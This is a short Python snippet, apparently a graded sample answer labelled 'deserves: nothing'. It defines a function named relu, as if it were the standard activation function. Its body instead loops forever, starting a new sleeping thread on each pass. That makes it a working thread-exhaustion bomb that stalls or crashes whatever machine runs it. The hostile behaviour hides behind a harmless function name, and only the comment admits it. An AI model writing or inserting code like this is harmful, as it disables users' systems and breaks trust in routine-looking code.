# Starts threads without end.
# deserves: nothing for relu

def relu(z):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(999,)).start()
